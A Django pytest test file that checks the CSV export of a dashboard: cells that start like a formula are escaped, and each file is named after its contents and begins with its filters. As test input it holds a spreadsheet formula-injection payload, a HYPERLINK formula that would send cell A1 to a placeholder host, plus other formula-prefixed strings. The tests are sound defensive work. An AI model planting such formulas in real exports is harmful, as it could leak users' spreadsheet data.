"""A dashboard table downloaded as CSV is written by the product's one writer (imports.writing):
text that a spreadsheet would run as a formula opens as text; the file is named after what it
holds and starts with the filters it was made with."""

import csv
import datetime as dt
import io
import re

import pytest
from django.urls import reverse

from common.roles import LEADERSHIP
from tests.factories import (
    ActivityFactory,
    AgreementFactory,
    GoalFactory,
    InitiativeFactory,
    InstitutionFactory,
    PartnerFactory,
    RegionFactory,
    UnitFactory,
    user_with_role,
)
from tests.helpers import download_table

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x?x="&A1,"Click")'


@pytest.fixture
def leader(client, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    institution = InstitutionFactory(code="HOME")
    client.force_login(user_with_role(LEADERSHIP, institutions=[institution]))
    return client, institution


def rows_of(response) -> list[list[str]]:
    """The table's rows, header first, after the filters the file starts with."""
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # UTF-8 with BOM, as Excel reads it
    return list(csv.reader(io.StringIO(download_table(response.content))))


def file_name(response) -> str:
    return re.fullmatch(r'attachment; filename="(.+)"', response["Content-Disposition"])[1]


def test_an_initiative_titled_as_a_formula_downloads_as_text(leader):
    client, institution = leader
    unit = UnitFactory(institution=institution)
    goal = GoalFactory(framework__institution=institution)
    initiative = InitiativeFactory(
        institution=institution, lead_unit=unit, code="INI-F", title=HYPERLINK
    )
    initiative.goals.add(goal)

    for url in [
        reverse("dashboards:goal", args=[goal.pk]),
        reverse("dashboards:unit", args=[unit.pk]),
    ]:
        rows = rows_of(client.get(url, {"csv": "initiatives"}))
        row = next(row for row in rows if row[0] == "INI-F")
        assert row[1] == "'" + HYPERLINK, url


@pytest.mark.parametrize("text", ["+1-2", "-1+2", "@SUM(A1:A2)", "=1+1"])
def test_every_formula_prefix_is_escaped_in_the_downloads(leader, text):
    client, institution = leader
    unit = UnitFactory(institution=institution)
    partner = PartnerFactory(name=text)
    AgreementFactory(unit=unit, partner=partner)
    ActivityFactory(initiative__institution=institution, unit=unit, partner=partner)
    rows = rows_of(client.get(reverse("dashboards:unit", args=[unit.pk]), {"csv": "agreements"}))
    assert rows[1][0] == "'" + text


def test_figures_and_dates_stay_as_they_are(leader):
    client, institution = leader
    unit = UnitFactory(institution=institution)
    AgreementFactory(unit=unit, partner=PartnerFactory(name="Chulalongkorn University"))
    rows = rows_of(client.get(reverse("dashboards:unit", args=[unit.pk]), {"csv": "agreements"}))
    assert rows[1][:4] == [
        "Chulalongkorn University",
        "Memorandum of understanding",
        "2024-04-01",
        "2029-03-31",
    ]


def offer_years_from_2024(institution) -> None:
    """The filters offer the years from the first activity's on."""
    ActivityFactory(initiative__institution=institution, start_date=dt.date(2024, 6, 1))


def test_a_download_is_named_after_what_it_holds(leader):
    client, institution = leader
    offer_years_from_2024(institution)
    goal = GoalFactory(framework__institution=institution, framework__code="ISO-KU", code="1.3")
    unit = UnitFactory(institution=institution, code="ASEAN")
    downloads = {
        (reverse("dashboards:overview"), f"framework-{goal.framework_id}"): (
            "home-iso-ku-overview-fy2025.csv"
        ),
        (reverse("dashboards:goal", args=[goal.pk]), "initiatives"): (
            "home-iso-ku-1-3-goal-initiatives-fy2025.csv"
        ),
        (reverse("dashboards:unit", args=[unit.pk]), "agreements"): (
            "home-asean-unit-agreements-fy2025.csv"
        ),
        (reverse("dashboards:regions"), "countries"): "regions-countries-fy2025.csv",
    }
    for (url, table), name in downloads.items():
        assert file_name(client.get(url, {"fy": 2025, "csv": table})) == name, url
    response = client.get(
        reverse("dashboards:regions"), {"fy": 2025, "institution": "HOME", "csv": "countries"}
    )
    assert file_name(response) == "home-regions-countries-fy2025.csv"


def test_a_download_starts_with_the_filters_it_was_made_with(leader):
    client, institution = leader
    offer_years_from_2024(institution)
    unit = UnitFactory(institution=institution, name="ASEAN Center, Bangkok")
    region = RegionFactory(code="ASEAN", name="ASEAN")
    params = {"fy": 2025, "unit": unit.pk, "status": "active", "region": "ASEAN"}
    response = client.get(reverse("dashboards:regions"), {**params, "csv": "countries"})
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[:7] == [
        "# fiscal year: FY2025",
        "# institution: all",
        '"# unit: ASEAN Center, Bangkok"',  # one cell, though it holds a comma
        "# status: Active",
        f"# region: {region}",
        "",
        "country,region,activities,inbound,outbound,partners",
    ]
    assert rows_of(response)[0] == lines[6].split(",")  # it reads back as the table it was
    unfiltered = client.get(reverse("dashboards:regions"), {"fy": 2024, "csv": "countries"})
    assert unfiltered.content.decode("utf-8-sig").split("\r\n")[:5] == [
        "# fiscal year: FY2024",
        "# institution: all",
        "# unit: all",
        "# status: all",
        "# region: all",
    ]
